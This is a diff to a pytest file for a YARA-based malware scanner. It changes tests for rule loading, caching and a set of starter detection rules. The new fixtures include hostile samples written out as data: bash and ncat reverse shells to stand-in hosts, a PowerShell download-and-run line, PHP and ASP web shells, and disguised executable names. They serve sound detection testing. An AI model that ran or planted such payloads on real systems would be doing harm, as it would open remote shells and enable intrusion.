@@ -2,6 +2,7 @@ from __future__ import annotations
 
 import os
 import threading
+import time
 
 import pytest
 from samples import EICAR, object_of
@@ -54,25 +55,6 @@ def test_equal_names_in_two_files_do_not_clash(make):
     assert yara.scan(object_of(b"worse")).rule["ruleset"] == "two.yara"
 
 
-def test_includes_are_relative_to_their_file(make):
-    yara = make({"top.yar": 'include "inc/part.inc"\n', "inc/part.inc": GOOD})
-    assert yara.scan(object_of(b"evil")).status == "malicious"
-
-
-def test_a_broken_file_is_named_with_its_line_and_the_others_load(make):
-    yara = make({"bad.yar": "rule Bad {\n condition:\n  nonsense_word\n}\n", "good.yar": GOOD})
-    assert len(yara.problems) == 1
-    assert "bad.yar:3: " in yara.problems[0]
-    assert "nonsense_word" in yara.problems[0]
-    assert yara.scan(object_of(b"evil")).status == "malicious"
-    assert yara.check() is None
-
-
-def test_broken_files_are_named_again_at_the_next_start(make):
-    files = {"bad.yar": "rule Bad {", "good.yar": GOOD}
-    assert make(files).problems == make(files).problems != []
-
-
 @pytest.mark.parametrize("files", [{"bad.yar": "rule Bad {"}, {"notes.txt": "no rules here"}])
 def test_without_a_usable_rule_it_says_so_and_is_never_clean(make, files):
     yara = make(files)
@@ -84,13 +66,6 @@ def test_a_missing_path_is_named(tmp_path):
     yara = Yara(rules=[str(tmp_path / "nowhere")], cache=tmp_path / "cache")
     assert yara.problems == [f"{tmp_path / 'nowhere'}: no such file or folder"]
     assert yara.check() is None
-
-
-def test_an_unreadable_file_is_named(make, tmp_path):
-    (tmp_path / "rules").mkdir()
-    (tmp_path / "rules" / "dangling.yar").symlink_to(tmp_path / "nowhere")
-    yara = make({"good.yar": GOOD})
-    assert yara.scan(object_of(b"evil")).status == "malicious"
 
 
 @pytest.mark.parametrize(
@@ -117,30 +92,6 @@ def test_objects_on_disk_are_matched_there(make):
     assert make({"one.yar": GOOD}).scan(object_of(b"x" * 10_000 + b"evil", on_disk=True)).status == "malicious"
 
 
-def test_compiled_rules_are_kept_and_made_anew_when_anything_changed(make, tmp_path):
-    files = {"top.yar": 'include "part.inc"\n' + HEURISTIC, "part.inc": GOOD}
-    first = make(files)
-    (kept,) = (tmp_path / "cache").iterdir()
-    stamp = kept.stat().st_mtime_ns
-    assert make(files).database_version == first.database_version
-    assert kept.stat().st_mtime_ns == stamp
-    changed = make(files | {"part.inc": GOOD.replace("evil", "worse")})
-    assert changed.database_version != first.database_version
-    assert changed.scan(object_of(b"worse")).status == "malicious"
-
-
-def test_a_damaged_cache_is_made_anew(make, tmp_path):
-    make({"one.yar": GOOD})
-    (kept,) = (tmp_path / "cache").iterdir()
-    kept.write_bytes(b"YARA" + os.urandom(100))
-    assert make({"one.yar": GOOD}).scan(object_of(b"evil")).status == "malicious"
-
-
-def test_a_cache_that_can_not_be_written_costs_nothing_but_time(tmp_path):
-    (tmp_path / "file").write_text("in the way")
-    assert Yara(cache=tmp_path / "file" / "cache").scan(object_of(EICAR)).status == "malicious"
-
-
 def test_a_slow_rule_is_a_timeout(make):
     loop = "rule Slow { condition: for all i in (0..2000000000) : (uint8(i % 10) < 256) }"
     assert make({"one.yar": loop}, timeout=1.0).scan(object_of(b"0123456789ab")).status == "timeout"
@@ -156,7 +107,53 @@ def test_threads_share_the_rules(make):
     assert [verdict.status for verdict in verdicts] == ["malicious"] * 8
 
 
+@pytest.mark.parametrize(
+    ("payload", "name", "rule"),
+    [
+        (b"<% execute(request.form) %>", "a.asp", "Server_page_that_runs_what_it_is_sent"),
+        (b'Runtime.getRuntime().exec( request.getParameter("c"))', "a.jsp", "Server_page_that_runs_what_it_is_sent"),
+        (b"MZ" + bytes(99), "invoice\u202egpj.exe", "Executable_with_document_name"),
+        (b"powershell -w hidden (x).DownloadFile('y')", "a.htm", "PowerShell_that_runs_a_download"),
+        (b"ncat 192.0.2.1 4444 -e /bin/sh\n", "a.sh", "Shell_script_with_reverse_shell"),
+        (
+            b"\x7fELF\1\1\1" + bytes(9) + bytes(12) + (52).to_bytes(4, "little") + bytes(12) + b"\1\0" + bytes(6)
+            + bytes(24) + b"\7\0\0\0",
+            "a", "Program_of_one_writable_segment",
+        ),
+    ],
+)  # fmt: skip
+def test_starter_rules_know_other_shapes(starter, payload, name, rule):
+    assert rule in starter.scan(object_of(payload, name)).signatures
+
+
+@pytest.mark.parametrize("on_disk", [False, True])
+def test_rules_for_programs_are_asked_about_programs_only(make, on_disk):
+    gated = 'import "pe" rule P { strings: $a = "evil" condition: uint16(0) == 0x5A4D and not pe.is_pe and $a }'
+    yara = make({"pe.yar": gated, "one.yar": GOOD.replace("evil", "worse")})
+    assert yara.scan(object_of(b"MZ evil", on_disk=on_disk)).signature == "P"
+    assert yara.scan(object_of(b"MZ worse", on_disk=on_disk)).signature == "Good"
+    assert yara.scan(object_of(b"-- worse", on_disk=on_disk)).signature == "Good"
+    assert yara.scan(object_of(b"-- evil", on_disk=on_disk)).status == "clean"
+    assert make({"one.yar": gated}).scan(object_of(b"")).status == "clean"
+
+
+def test_more_than_a_million_matches_of_a_string_do_no_harm(make):
+    yara = make({"one.yar": 'rule Many { strings: $a = "ab" condition: #a > 3 }'})
+    assert yara.scan(object_of(b"ab" * 1_100_000)).signature == "Many"
+
+
+def test_the_age_of_the_rules_is_that_of_the_newest_file(make, tmp_path):
+    make({"one.yar": GOOD, "two.yar": HEURISTIC})
+    for name, days in (("one.yar", 3), ("two.yar", 2)):
+        when = time.time() - days * 86_400
+        os.utime(tmp_path / "rules" / name, (when, when))
+    age = Yara(rules=[str(tmp_path / "rules")], starter=False, cache=tmp_path / "cache").database_age
+    assert age == pytest.approx(2 * 86_400, abs=60)
+    assert Yara(starter=False, cache=tmp_path / "cache").database_age is None
+
+
 PE = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0" + bytes(200)
+ELF = b"\x7fELF\2\1\1" + bytes(9) + b"\2\0\x3e\0"
 STARTER = {
     "EICAR_test_file": (EICAR, {}),
     "Executable_with_document_name": (PE, {"name": "invoice.pdf.exe"}),
@@ -169,12 +166,37 @@ STARTER = {
         bytes.fromhex("d0cf11e0a1b11ae1") + b"..Sub AutoOpen()..WScript.Shell..", {"name": "a.doc"}
     ),
     "Page_that_assembles_a_file": (
-        b"<script>var d='" + b"QUJD" * 1100 + b"';b=new Blob([atob(d)]);a.download='x'</script>", {"name": "a.htm"}
+        b"<script>var d='TVqQ" + b"QUJD" * 1100 + b"';b=new Blob([atob(d)]);a.download='x'</script>", {"name": "a.htm"}
     ),
     "PHP_that_runs_what_it_is_sent": (b"<?php @eval($_POST['c']); ?>", {"name": "a.php"}),
     "Shell_script_with_reverse_shell": (b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n", {"name": "a.sh"}),
     "Java_archive_by_mail": (
         b"PK\3\4", {"name": "a.jar", "protocol": "smtp", "mime_type": "application/java-archive"}
+    ),
+    "Mailed_script_with_document_name": (b"var x", {"name": "invoice.pdf .js", "protocol": "smtp"}),
+    "PowerShell_that_runs_a_download": (
+        "iex (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')".encode("utf-16-le"), {"name": "a.ps1"}
+    ),
+    "Script_that_fetches_writes_and_starts": (
+        b"CreateObject('WScript.Shell') CreateObject('ADODB.Stream') CreateObject('MSXML2.XMLHTTP')", {"name": "a.vbs"}
+    ),
+    "RTF_that_updates_its_object_by_itself": (b"{\\rtf1{\\object\\objupdate{\\*\\objdata 0105}}}", {"name": "a.doc"}),
+    "Document_with_remote_template": (
+        b'<Relationship Type="http://schemas.example/relationships/attachedTemplate" Target="http://192.0.2.1/t.dotm"/>',
+        {"name": "word/_rels/settings.xml.rels"},
+    ),
+    "Notebook_with_a_script_inside": (
+        bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(64)
+        + bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + b"<script>WScript.Quit</script>", {"name": "a.one"},
+    ),
+    "Server_page_that_runs_what_it_is_sent": (b'<%eval request("c")%>', {"name": "a.asp"}),
+    "Program_with_reverse_shell": (
+        ELF + bytes(64) + b"/bin/bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", {"name": "a"}
+    ),
+    "Program_of_one_writable_segment": (
+        ELF + bytes(12) + (64).to_bytes(8, "little") + bytes(16) + b"\1\0" + bytes(6)
+        + b"\1\0\0\0\7\0\0\0" + bytes(200),
+        {"name": "a"},
     ),
 }  # fmt: skip
 
@@ -203,7 +225,13 @@ def test_every_starter_rule_has_a_sample(starter):
 
 @pytest.mark.parametrize(
     "payload",
-    [b"plain text about powershell and bash", PE, b"<script>new Blob([1])</script>", b"<?php echo $_GET['a']; ?>"],
+    [
+        b"plain text about powershell and bash",
+        PE,
+        b"<script>new Blob([1])</script>",
+        b"<?php echo $_GET['a']; ?>",
+        ELF + bytes(9000),
+    ],
 )
 def test_starter_rules_leave_ordinary_things_alone(starter, payload):
     assert starter.scan(object_of(payload, "readme.bin")).status == "clean"
